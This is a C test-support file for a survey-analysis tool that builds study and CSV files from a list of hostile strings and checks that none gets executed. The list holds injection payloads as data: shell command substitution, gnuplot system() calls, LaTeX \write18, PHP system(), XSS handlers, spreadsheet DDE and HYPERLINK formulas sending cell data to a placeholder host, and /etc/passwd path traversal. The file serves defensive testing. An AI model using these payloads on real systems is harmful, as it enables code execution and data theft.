/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "support/test_hostile.h"

#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "base/buffer.h"
#include "support/test_command.h"

#define TOUCH "touch " HOSTILE_MARKER
#define X10   "xxxxxxxxxx"
#define X100  X10 X10 X10 X10 X10 X10 X10 X10 X10 X10
#define X1000 X100 X100 X100 X100 X100 X100 X100 X100 X100 X100
#define W10   "one two three four five six seven eight nine ten "
#define W100  W10 W10 W10 W10 W10 W10 W10 W10 W10 W10

const hostile_text hostile_texts[] = {
    /* quotes, and commands in them */
    {"single_quotes", "it's 'quoted' ''twice'' '"},
    {"double_quotes", "a \"quoted\" \"\"twice\"\" \""},
    {"curly_quotes", "‘single’ “double” „low” «guillemets» ‚x‘"},
    {"backticks", "`" TOUCH "` ``double`` ```fence```"},
    {"shell", "$(" TOUCH "); " TOUCH " & " TOUCH " | " TOUCH " > x < y ${HOME} $HOME !! ~"},
    {"shell_line_end", "a\n" TOUCH "\n"},
    {"gnuplot_system", "system(\"" TOUCH "\")"},
    {"gnuplot_string_end", "\"; system('" TOUCH "'); set label '"},
    {"gnuplot_apostrophe_end", "'; system(\"" TOUCH "\"); print '"},
    {"gnuplot_shell", "\n!" TOUCH "\nshell"},
    {"gnuplot_pipe", "< " TOUCH},
    {"gnuplot_macros", "@HOME @a @system \"@b\""},
    {"gnuplot_enhanced", "x_{sub}^{super} {/Symbol a} {/*3 big} &{space} ~a{.6b} @{x} \\{ {{"},
    {"gnuplot_escapes", "a\\nb \\t \\\" \\047 \\x41 \\U+1F600 %s %d %g %%"},
    {"gnuplot_data_end", "EOD\nEOF\n$data << EOD\ne\n"},
    {"trailing_backslash", "ends in a backslash\\"},
    {"trailing_backslashes", "in two of them\\\\"},
    {"comment", "# no comment ; nor here // /* */ -- %"},
    /* HTML and XML */
    {"script", "<script>alert(1)</script><SCRIPT SRC=//x.example/x.js></SCRIPT>"},
    {"script_end", "</script><!--<script>--></style></title></svg></textarea>"},
    {"event_handler", "<img src=x onerror=alert(1)><svg/onload=alert(1)>"},
    {"attribute_end", "\" onmouseover=\"alert(1)\" x='\"> autofocus onfocus=alert(1)"},
    {"entities", "&amp; &lt;b&gt; &#60; &#x3C; &quot &nbsp; &unknown; & &&"},
    {"cdata_end", "]]> <![CDATA[ x ]]> ]]"},
    {"comment_end", "--> --!> <!-- x -- y -->"},
    {"processing_instruction", "<?php system('" TOUCH "') ?> <?xml version=\"1.0\"?> <!DOCTYPE x>"},
    {"javascript_link", "<a href=\"javascript:alert(1)\">x</a> javascript:alert(1)"},
    {"template", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}"},
    {"json", "\",\"x\":1} \\u0041 \\u2028 \\/ null"},
    {"style", "<style>*{display:none}</style> expression(alert(1)) url(javascript:1)"},
    /* LaTeX */
    {"latex_write18", "\\immediate\\write18{" TOUCH "}"},
    {"latex_input", "\\input{/etc/passwd} \\include{x} \\openout1=x \\catcode`\\%=12"},
    {"latex_directlua", "\\directlua{os.execute('" TOUCH "')} \\ShellEscape{" TOUCH "}"},
    {"latex_special", "100% & #1 a_b ^^41 ~ {x} $e=mc^2$ \\\\ \\ \\end{document} \\par\\bye"},
    {"latex_ligatures", "-- --- ?` !` << >> ,, `` '' fi"},
    {"latex_item", "[x] \\\\[2cm] *] \\hline \\midrule"},
    {"latex_carets", "^^M^^5cinput ^^^^0041 ^^@"},
    /* spreadsheets */
    {"formula_equals", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"},
    {"formula_plus", "+1+1"},
    {"formula_minus", "-2+3"},
    {"formula_at", "@SUM(1+1)"},
    {"formula_dde", "=cmd|'/C calc'!A0"},
    {"formula_dde_plus", "+cmd|' /C " TOUCH "'!A0"},
    {"formula_tab", "\t=1+1"},
    {"formula_return", "\r=1+1"},
    {"formula_array", "{=SUM(A1:A9)}"},
    {"formula_number", "007"},
    {"formula_error", "#REF! #N/A"},
    {"formula_apostrophe", "'=1+1"},
    {"sheet_name", "[x]:*?/\\ 'History'"},
    /* Markdown */
    {"markdown_pipes", "a | b || c \\| d |"},
    {"markdown_link", "[text](http://x.example \"title\") <http://y.example> [ref][1] www.z.example me@x.example"},
    {"markdown_image", "![alt](http://x.example/i.png)"},
    {"markdown_heading", "# heading"},
    {"markdown_underline", "heading\n======="},
    {"markdown_rule", "---"},
    {"markdown_list", "- item"},
    {"markdown_numbered", "1. item"},
    {"markdown_emphasis", "*a* **b** ***c*** _d_ __e__ ~~f~~ ^g^ ~h~ ==i== ::j::"},
    {"markdown_html", "<b>bold</b> <details><summary>x</summary> <br>"},
    {"markdown_hard_break", "ends in two blanks  \nand goes on\\\nand on"},
    {"markdown_math", "$x$ $$y$$ \\(z\\) \\[w\\] $`a`$ [^1] [^1]: note @cite [@cite] {.class #id} :smile:"},
    {"markdown_fence", "~~~\ncode\n~~~"},
    {"markdown_task", "[ ] [x] > quote"},
    {"markdown_yaml", "---\ntitle: x\n..."},
    {"markdown_quote", "> quote"},
    {"markdown_division_end", ":::"},
    {"markdown_division", "::: {.x}"},
    /* CSV */
    {"csv_commas", "a,b;c\td"},
    {"csv_quoted_comma", "\"a\",\"b\""},
    {"csv_lf", "first\nsecond"},
    {"csv_crlf", "first\r\nsecond\r\n"},
    {"csv_cr", "first\rsecond"},
    {"csv_only_quote", "\""},
    /* characters */
    {"controls", "\x01\x02\x07\x08\x0B\x0C\x0E\x1A\x1C\x1F\x7F end"},
    {"c1_controls", "a\xC2\x85"
                    "b\xC2\x9B"
                    "31mc"},
    {"ansi", "\x1B[31mred\x1B[0m \x1B]0;title\x07 \x1B[2J"},
    {"separators", "a\xE2\x80\xA8"
                   "b\xE2\x80\xA9"
                   "c"},
    {"rtl_override", "abc\xE2\x80\xAE"
                     "txt.exe\xE2\x80\xAC \xE2\x81\xA7isolate\xE2\x81\xA9"},
    {"rtl_marks", "\xE2\x80\x8F(a)\xE2\x80\x8E \xD8\x9C"},
    {"byte_order_mark", "\xEF\xBB\xBFmark"},
    {"noncharacters", "\xEF\xBF\xBE\xEF\xBF\xBF\xF0\x9F\xBF\xBF \xEF\xBF\xBD"},
    {"private_use", "\xEE\x80\x80 \xF3\xB0\x80\x80"},
    {"invisible", "a\xE2\x80\x8B"
                  "b\xE2\x81\xA0"
                  "c\xC2\xAD"
                  "d\xE2\x80\x8D"
                  "e\xCD\x8F"
                  "f"},
    {"arabic", "مهتم جدًا بالتسوق (50%)"},
    {"hebrew", "עניין רב, \"מאוד\" 1–2"},
    {"persian_joiner", "می‌خواهم"},
    {"cjk", "非常感兴趣（直播购物） とても興味がある 매우 관심 있음"},
    {"devanagari", "बहुत दिलचस्पी"},
    {"thai", "สนใจมากที่สุด"},
    {"emoji", "👩‍👩‍👧‍👦 👍🏽 🇵🇱 ❤️ 1️⃣ 🏴‍☠️"},
    {"combining", "e\xCC\x81\xCC\xA7 Z\xCC\x80\xCC\x81\xCC\x82\xCC\x83\xCC\x84\xCC\x85\xCC\x86\xCC\x87 \xCC\x81"},
    {"european", "Łódź Ærø ßẞ İı Ωmega Привет – — … € ½ ² µ ≤ ≠ → ✓"},
    {"mathematical", "𝒳 𝟙 ﬁ Å ℝ ∑"},
    {"wide_blanks", "\xC2\xA0 no-break \xE3\x80\x80 ideographic \xE2\x80\xAF narrow"},
    /* lengths */
    {"long_word", X1000},
    {"long_text", W100},
    {"long_cjk", "很长很长很长很长很长很长很长很长很长很长很长很长很长很长很长很长很长很长很长很长很长很长很长很长"},
    {"empty", ""},
    {"blank", " "},
    {"blanks", "   \t "},
    {"line_end", "\n"},
    {"surrounded", "  blanks around  "},
    /* names */
    {"path", "../../../../etc/passwd"},
    {"path_absolute", "/etc/passwd"},
    {"path_windows", "..\\..\\CON"},
    {"path_url", "file:///etc/passwd"},
    {"all", "(all)"},
    {"null", "null"},
    {"prototype", "__proto__"},
};
const size_t hostile_text_count = COUNT_OF(hostile_texts);

const hostile_text hostile_bytes[] = {
    {"stray_continuation", "a\x80"
                           "b"},
    {"cut_short", "a\xE2\x82"},
    {"overlong", "\xC0\xAF\xC1\x81"},
    {"surrogates", "\xED\xA0\x80\xED\xB0\x80"},
    {"above_unicode", "\xF4\x90\x80\x80"},
    {"latin1", "Fran\xE7"
               "ais"},
    {"nothing_else", "\xFF\xFE\xFF"},
};
const size_t hostile_byte_count = COUNT_OF(hostile_bytes);

/* ---- the study ---- */

static const char *text_named(const char *name)
{
    for (size_t i = 0; i < hostile_text_count; i++)
        if (strcmp(hostile_texts[i].name, name) == 0)
            return hostile_texts[i].text;
    fail_msg("no hostile text is named '%s'", name);
    return NULL;
}

void hostile_quote(cv_buffer *to, const char *text)
{
    cv_buffer_add_char(to, '"');
    for (const unsigned char *at = (const unsigned char *)text; *at != '\0'; at++) {
        if (*at < 0x20 || *at == 0x7F) {
            cv_buffer_format(to, "\\u%04X", *at);
            continue;
        }
        if (*at == '"' || *at == '\\')
            cv_buffer_add_char(to, '\\');
        cv_buffer_add_char(to, (char)*at);
    }
    cv_buffer_add_char(to, '"');
}

static void put_field(cv_buffer *to, const char *text)
{
    cv_buffer_add_char(to, '"');
    for (; *text != '\0'; text++) {
        if (*text == '"')
            cv_buffer_add_char(to, '"');
        cv_buffer_add_char(to, *text);
    }
    cv_buffer_add_char(to, '"');
}

/* Six rows for each text, three on each side, so that every group has an answer and a spread. */
static void write_data(test_folder *folder)
{
    cv_buffer data = {0};
    cv_buffer_add(&data, "code,answer,side,number\n");
    for (size_t i = 0; i < hostile_text_count; i++)
        for (size_t k = 0; k < 6; k++) {
            cv_buffer_format(&data, "c%zu,", i);
            put_field(&data, hostile_texts[i].text);
            cv_buffer_format(&data, ",%s,%zu\n", k % 2 == 0 ? "a" : "b", (7 * i + k * k) % 11);
        }
    assert_false(data.failed);
    test_folder_write_bytes(folder, "survey.csv", data.text, data.length);
    cv_buffer_free(&data);
}

static void put_pair(cv_buffer *to, const char *key, const char *text, const char *after)
{
    cv_buffer_format(to, "\"%s\": ", key);
    hostile_quote(to, text);
    cv_buffer_add(to, after);
}

static void put_variables(cv_buffer *to)
{
    cv_buffer_add(to, "\"variables\": {\"code\": {");
    put_pair(to, "label", text_named("script"), ", \"levels\": {");
    for (size_t i = 0; i < hostile_text_count; i++) {
        cv_buffer_format(to, "%s\"c%zu\": ", i == 0 ? "" : ", ", i);
        hostile_quote(to, hostile_texts[i].text);
    }
    cv_buffer_add(to, "}}, \"answer\": {\"type\": \"nominal\", ");
    put_pair(to, "label", text_named("latex_write18"), "}, \"number\": {");
    put_pair(to, "label", text_named("formula_dde"), "}, \"side\": {");
    put_pair(to, "label", text_named("markdown_pipes"), ", \"levels\": {");
    put_pair(to, "a", text_named("gnuplot_string_end"), ", ");
    put_pair(to, "b", text_named("attribute_end"), "}}},\n");
}

static void put_analyses(cv_buffer *to)
{
    cv_buffer_add(to, "\"analyses\": [\n{\"name\": \"labels\", \"statistic\": \"proportion\", \"of\": \"code\", "
                      "\"by\": [\"side\"], \"total\": true, \"compare\": {\"over\": \"side\"}, "
                      "\"tests\": [\"rao-scott-f\"], ");
    put_pair(to, "title", text_named("markdown_link"), ", ");
    put_pair(to, "where", "answer != '`$(" TOUCH ")`|<b>\\write18{x}%'", "},\n");
    for (size_t i = 0; i < hostile_text_count; i += HOSTILE_PART) {
        cv_buffer_format(to, "{\"name\": \"p%zu\", \"statistic\": \"proportion\", \"of\": \"code\", \"level\": [",
                         i / HOSTILE_PART);
        for (size_t k = i; k < i + HOSTILE_PART && k < hostile_text_count; k++)
            cv_buffer_format(to, "%s\"c%zu\"", k == i ? "" : ", ", k);
        cv_buffer_add(to, "]},\n");
    }
    cv_buffer_add(to, "{\"name\": \"values\", \"statistic\": \"proportion\", \"of\": \"answer\"},\n"
                      "{\"name\": \"across\", \"statistic\": \"mean\", \"of\": \"number\", \"by\": [\"code\"]}");
    for (size_t i = 0; i < hostile_text_count; i++) {
        cv_buffer_format(to, ",\n{\"name\": \"t%zu\", \"statistic\": \"mean\", \"of\": \"number\", ", i);
        put_pair(to, "title", hostile_texts[i].text, "}");
    }
    cv_buffer_add(to, "]");
}

void hostile_study(test_folder *folder, const char *more)
{
    cv_buffer study = {0};
    write_data(folder);
    cv_buffer_add(&study, "{");
    put_pair(&study, "title", text_named("gnuplot_system"), ", ");
    put_pair(&study, "source", text_named("shell"), ", ");
    put_pair(&study, "note", text_named("latex_special"), ",\n");
    cv_buffer_add(&study, "\"output\": \"out\", \"data\": {\"file\": \"survey.csv\"},\n");
    put_variables(&study);
    put_analyses(&study);
    if (more != NULL && more[0] != '\0')
        cv_buffer_format(&study, ",\n%s", more);
    cv_buffer_add(&study, "}\n");
    assert_false(study.failed);
    test_folder_write_bytes(folder, "study.yaml", study.text, study.length);
    cv_buffer_free(&study);
}

void hostile_charts(cv_buffer *to, const char *kind, const char *formats)
{
    static const char line[] = "{\"name\": \"%s%zu\", \"from\": \"%s%zu\", \"kind\": \"%s\", \"formats\": %s";
    cv_buffer_add(to, "\"charts\": [\n");
    for (size_t i = 0; i * HOSTILE_PART < hostile_text_count; i++) {
        cv_buffer_format(to, line, "p", i, "p", i, kind, formats);
        cv_buffer_add(to, "},\n");
    }
    for (size_t i = 0; i < hostile_text_count; i++) {
        cv_buffer_format(to, line, "t", i, "t", i, kind, formats);
        cv_buffer_add(to, ", ");
        put_pair(to, "title", hostile_texts[i].text, i + 1 < hostile_text_count ? "},\n" : "}]");
    }
}

/* ---- nothing is run ---- */

void hostile_forget(void)
{
    remove(HOSTILE_MARKER);
}

void hostile_check(void)
{
    if (access(HOSTILE_MARKER, F_OK) == 0)
        fail_msg("a text was run as a command: there is a file " HOSTILE_MARKER);
}

void hostile_run(test_folder *folder, const char *more)
{
    hostile_forget();
    hostile_study(folder, more);
    check_canvass(folder->path, (const char *const[]){"run", "study.yaml", "--output", "out", NULL}, 0, "", "");
    hostile_check();
}
